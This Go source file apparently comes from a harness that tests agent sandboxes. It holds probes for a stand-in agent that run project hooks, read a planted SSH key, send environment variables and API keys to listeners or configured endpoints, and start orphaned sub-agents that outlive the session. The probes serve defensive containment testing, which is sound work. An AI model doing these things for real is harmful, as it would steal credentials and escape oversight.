//go:build linux

package inside

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
	"holdfast.dev/holdfast/internal/floor/programs"
)

// The agent of these rows is a stand-in: it has no model, and obeys what it
// reads. At start-up it treats files as real agent programs do in a trusted
// folder, by the same names and keys: a hook's command is passed to a shell, a
// server is started with its arguments and addressed over its standard streams.
func agentsActions() map[string]Action {
	return map[string]Action{
		"agent-start":    agentStart,
		"agent-payload":  payload,
		"agent-tools":    agentTools,
		"agent-spawn":    agentSpawn,
		"agent-outlive":  agentOutlive,
		"agent-temp":     agentTemp,
		"agent-base-url": agentBaseURL,
		"agent-asks":     agentAsks,
		"agent-looks":    agentLooks,
		"shadowed-tools": shadowedTools,
		"unterminated":   unterminated,
		"swap-approved":  swapApproved,
		"agent-authors":  agentAuthors,
		"agent-version":  agentVersion,
		"starved-hook":   starvedHook,
		"note-nothing":   func(p *Probe) { p.Note("nothing", nil) },
		"overwrite-or-create": each(func(p *Probe, path string) {
			p.Try("write "+path, func() error { return os.WriteFile(path, []byte(mark), 0o644) })
		}),
		"mcp-server":   mcpServer,
		"mcp-heard":    mcpHeard,
		"mcp-serve":    mcpServe,
		"mcp-visit":    callForeignServers,
		"mcp-open-url": mcpOpenURL,
	}
}

// patience is how long the stand-in waits for what it started.
const patience = 10 * time.Second

// payload is what hostile code tries once it has been started: it writes outside,
// reads a secret, and sends what it knows to the listener of the row.
func payload(p *Probe) {
	name := p.Arg("name")
	p.Try(name+" writes outside", func() error { return p.createOutside("started-" + name) })
	p.Read(name+" reads a key", func() ([]byte, error) { return os.ReadFile(p.In("H", ".ssh", "id_probe")) })
	p.Note(name+" sees", tokensIn([]byte(strings.Join(os.Environ(), "\n"))))
	if p.Arg("at") != "" {
		for _, s := range services(p) {
			p.Try(name+" sends to "+s[1], func() error { return tell(s, strings.Join(os.Environ(), "\n")) })
		}
	}
	p.Control(name+" ran", func() error { return create(p.In("W", "ran-"+name)) })
}

func tell(service [2]string, what string) error {
	c, err := net.DialTimeout(service[0], service[1], 2*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = io.WriteString(c, what)
	return err
}

// relay repeats the reports of a child, which has no key of its own. Other lines
// become notes.
func (p *Probe) relay(out []byte) (reports int) {
	lines := bufio.NewScanner(bytes.NewReader(out))
	lines.Buffer(nil, 1<<20)
	for lines.Scan() {
		var r Report
		switch {
		case json.Unmarshal(lines.Bytes(), &r) != nil || r.Attempt == "":
			p.Note("it printed", lines.Bytes())
		case r.Phase == "":
			reports++
			p.emit(Report{Attempt: r.Attempt, Control: r.Control, Done: r.Done, Errno: r.Errno, Text: r.Text})
		default:
			p.Note(r.Attempt, []byte(r.Text))
		}
	}
	return reports
}

// agentStart is the start-up of an agent in the directory "dir" of the workspace:
// everything that its files ask for is started. There must be something.
func agentStart(p *Probe) {
	dir := filepath.Join(p.Arg("W"), p.Arg("dir"))
	p.Control("enter the project", func() error { return os.Chdir(dir) })
	begun := 0
	for _, l := range requestedLaunches(dir) {
		begun++
		p.launch(dir, l)
	}
	p.Control("the project asks for something", func() error {
		if begun == 0 {
			return errors.New("nothing was found that an agent starts")
		}
		return nil
	})
}

// launch is one program that a file of the project asks for.
type launch struct {
	from   string   // the file and key
	argv   []string // without a shell
	line   string   // for a shell, if argv is empty
	env    map[string]string
	dir    string
	server bool // it speaks the Model Context Protocol on its standard streams
}

func (p *Probe) launch(dir string, l launch) {
	argv := l.argv
	if len(argv) == 0 {
		argv = []string{"sh", "-c", l.line}
		if _, err := exec.LookPath("sh"); err != nil { // an image without a shell
			argv = strings.Fields(strings.ReplaceAll(l.line, "'", ""))
		}
	}
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	c := exec.CommandContext(ctx, argv[0], argv[1:]...)
	c.Dir = dir
	if l.dir != "" {
		c.Dir = filepath.Join(dir, l.dir)
		if filepath.IsAbs(l.dir) {
			c.Dir = l.dir
		}
		if _, err := os.Stat(c.Dir); err != nil {
			p.Try("a directory of "+l.from, func() error { return err })
			c.Dir = dir
		}
	}
	c.Env = os.Environ()
	for k, v := range l.env {
		c.Env = append(c.Env, k+"="+v)
	}
	c.WaitDelay = time.Second
	if l.server {
		p.serverSession(l.from, c)
		return
	}
	out, err := c.Output()
	if p.relay(out) == 0 {
		p.Control("start what "+l.from+" names", func() error { return errors.Join(errors.New("it printed nothing"), err) })
	}
}

// agentTools are tools that an agent has in its own process: without a shell or
// any other program.
func agentTools(p *Probe) {
	canary := p.In("O", "canary")
	p.Try("Write", func() error { return p.createOutside("x") })
	p.Try("Edit", func() error {
		b, err := os.ReadFile(canary)
		if err != nil {
			return err
		}
		return os.WriteFile(canary, append(b, mark...), 0)
	})
	p.Try("apply_patch, Update File", func() error { return overwrite(p.Arg("W") + "/../" + filepath.Base(p.Arg("O")) + "/canary") })
	p.Try("apply_patch, Move to", func() error { return os.Rename(p.In("W", "moved.txt"), p.In("O", "moved.txt")) })
	p.Try("apply_patch, Delete File", func() error { return os.Remove(p.In("O", "sub", "canary")) })
	p.Read("Read", func() ([]byte, error) { return os.ReadFile(p.In("H", ".ssh", "id_probe")) })
	p.Try("Glob", func() error {
		found, err := filepath.Glob(p.In("O", "*"))
		if err == nil && len(found) == 0 {
			return unix.ENOENT
		}
		return err
	})
	p.Read("Grep", func() ([]byte, error) {
		var all []byte
		var first error
		for _, path := range []string{p.In("H", ".ssh", "id_probe"), canary} {
			b, err := os.ReadFile(path)
			if all = append(all, b...); first == nil {
				first = err
			}
		}
		if len(all) == 0 {
			return nil, first
		}
		return all, nil
	})
	p.Control("Write in the workspace", func() error { return create(p.In("W", "written.txt")) })
}

// agentSpawn starts agents below the agent, in every way that programs use.
func agentSpawn(p *Probe) {
	p.Child("a sub-agent", "agent-payload", nil, "name=sub-agent")
	p.Child("a sub-agent of its own session", "agent-payload", &syscall.SysProcAttr{Setsid: true}, "name=own-session")
	p.Child("a sub-agent of its own group", "agent-payload", &syscall.SysProcAttr{Setpgid: true}, "name=own-group")
	// A worker is often unpacked somewhere and executed from there, so this one is a
	// copy.
	worker := p.In("W", "worker")
	p.Control("unpack a worker", func() error {
		b, err := os.ReadFile(os.Args[0])
		return errors.Join(err, programs.Write(worker, b, 0o755))
	})
	c, done := p.Command(worker, "agent-payload", "name=worker")
	defer done()
	if err := c.Run(); err != nil {
		p.report("a worker", false, "", err)
	}
	// A worker whose parent is gone when it works.
	c, done = p.Command(os.Args[0], "agent-payload", "name=orphan")
	defer done()
	r, w, err := os.Pipe()
	if err != nil {
		p.report("an orphan", false, "", err)
		return
	}
	c.ExtraFiles, c.SysProcAttr = []*os.File{w}, &syscall.SysProcAttr{Setsid: true}
	err = c.Start()
	w.Close()
	if err == nil {
		_ = r.SetReadDeadline(time.Now().Add(patience))
		_, _ = io.Copy(io.Discard, r)
		err = c.Wait()
	}
	if err != nil {
		p.report("an orphan", false, "", err)
	}
}

// agentOutlive leaves a sub-agent behind that continues when the session is over.
func agentOutlive(p *Probe) {
	if p.Arg("stay") != "" {
		null, _ := os.OpenFile(os.DevNull, os.O_RDWR, 0)
		for fd := range 3 {
			_ = unix.Dup2(int(null.Fd()), fd)
		}
		for range 100 {
			_ = create(p.In("O", "late")) // before the beat, which ends the session and this process
			_ = os.WriteFile(p.In("W", "beat"), []byte(time.Now().String()), 0o644)
			time.Sleep(100 * time.Millisecond)
		}
		return
	}
	p.Try("leave a sub-agent behind", func() error {
		c, done := p.Command(os.Args[0], "agent-outlive", "stay=yes")
		defer done()
		c.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if err := c.Start(); err != nil {
			return err
		}
		for range 200 {
			if _, err := os.Stat(p.In("W", "beat")); err == nil {
				return nil
			}
			time.Sleep(50 * time.Millisecond)
		}
		return errors.New("it never began")
	})
}

// agentTemp writes answers to well-known paths, as programs do that treat /tmp as
// theirs.
func agentTemp(p *Probe) {
	for path := range strings.SplitSeq(p.Arg("path"), "\n") {
		p.Try("write "+path, func() error { return create(path) })
	}
}

// agentBaseURL makes a request to the provider, at the address in the project's
// settings, with the key from the environment.
func agentBaseURL(p *Probe) {
	for name, value := range settingsEnv(p.Arg("W")) {
		if !strings.HasSuffix(name, "_BASE_URL") && !strings.HasSuffix(name, "_ENDPOINT") {
			continue
		}
		p.Try("ask "+name+" at "+value, func() error {
			req, err := http.NewRequest("POST", value+"/v1/messages", strings.NewReader("{}"))
			if err != nil {
				return err
			}
			for _, key := range []string{"ANTHROPIC_API_KEY", "OPENAI_API_KEY", "GEMINI_API_KEY"} {
				req.Header.Add("X-Api-Key", os.Getenv(key))
			}
			client := http.Client{Transport: &http.Transport{Proxy: nil}, Timeout: 3 * time.Second}
			resp, err := client.Do(req)
			if err == nil {
				return resp.Body.Close()
			}
			if ErrnoName(err) == "" && !errors.Is(err, os.ErrDeadlineExceeded) {
				return nil // something was there, but not HTTP
			}
			return err
		})
	}
}

// agentAsks asks an agent runtime outside the session to start another agent:
// over its sockets, and with a job in its directory.
func agentAsks(p *Probe) {
	job := fmt.Sprintf(`{"jsonrpc":"2.0","id":1,"method":"session/new","params":{"cwd":%q,"command":["touch",%q]}}`+"\n", p.Arg("W"), p.In("O", "x"))
	for _, s := range services(p) {
		p.Try("ask "+s[0]+" "+s[1], func() error { return tell(s, job) })
	}
	for path := range strings.SplitSeq(p.Arg("path"), "\n") {
		p.Try("leave a job at "+path, func() error { return create(path) })
	}
}

// agentLooks does what else an agent's start does: it runs programs that read the
// project, found by a PATH that includes the project.
func agentLooks(p *Probe) {
	path := os.Getenv("PATH")
	if dir := p.Arg("first"); dir != "" {
		path = dir + ":" + path
	}
	for line := range strings.SplitSeq(p.Arg("run"), "\n") {
		argv := strings.Fields(line)
		for dir := range strings.SplitSeq(path, ":") {
			at := filepath.Join(dir, argv[0])
			if st, err := os.Stat(at); err != nil || !st.Mode().IsRegular() || st.Mode()&0o111 == 0 {
				continue
			}
			c := exec.Command(at, argv[1:]...)
			c.Dir = p.Arg("W")
			out, _ := c.CombinedOutput() // the exit status does not matter
			p.relay(out)
			break
		}
	}
}
